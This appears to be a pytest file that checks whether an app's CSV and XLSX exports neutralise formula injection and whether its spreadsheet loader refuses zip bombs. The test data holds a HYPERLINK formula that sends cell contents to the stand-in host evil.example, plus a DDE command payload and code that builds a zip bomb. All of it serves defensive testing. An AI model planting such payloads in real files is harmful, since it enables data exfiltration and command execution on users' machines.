"""Downloads cannot run formulas in a planner's Excel; an XLSX that inflates to gigabytes is refused unread."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from loaders.spreadsheets import MAX_XLSX_UNCOMPRESSED, read_tables
from sozialgraph.catalog import QueryResult
from sozialgraph.errors import SozialgraphError
from sozialgraph.results import render

DANGEROUS = ['=HYPERLINK("https://evil.example/?d="&A1;"Klick")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1"]


def _result() -> QueryResult:
    rows: list[dict[str, object]] = [{"label": value, "count": 3} for value in DANGEROUS]
    rows.append({"label": "Kita Altstadt", "count": -4})
    return QueryResult("angebote", ["label", "count"], rows)  # type: ignore[arg-type]


def test_csv_cells_that_look_like_formulas_stay_text() -> None:
    text = render(_result(), "csv").decode("utf-8-sig")
    cells = [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert cells[:-1] == ["'" + value for value in DANGEROUS]
    assert cells[-1] == "Kita Altstadt"
    assert [row[1] for row in list(csv.reader(io.StringIO(text)))[1:]][-1] == "-4"  # numbers stay numbers


def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas() -> None:
    sheet = load_workbook(io.BytesIO(render(_result(), "xlsx"))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
    assert [cell.value for cell in cells][:-1] == ["'" + value for value in DANGEROUS]


def test_an_xlsx_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    bomb = tmp_path / "offers.xlsx"
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive, \
            archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
        for _ in range(MAX_XLSX_UNCOMPRESSED // len(chunk) + 1):
            entry.write(chunk)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(SozialgraphError) as refused:
        read_tables(bomb, "offers", "offers.xlsx")
    assert "offers.xlsx" in refused.value.message and "entpackt größer als 200 MB" in refused.value.message
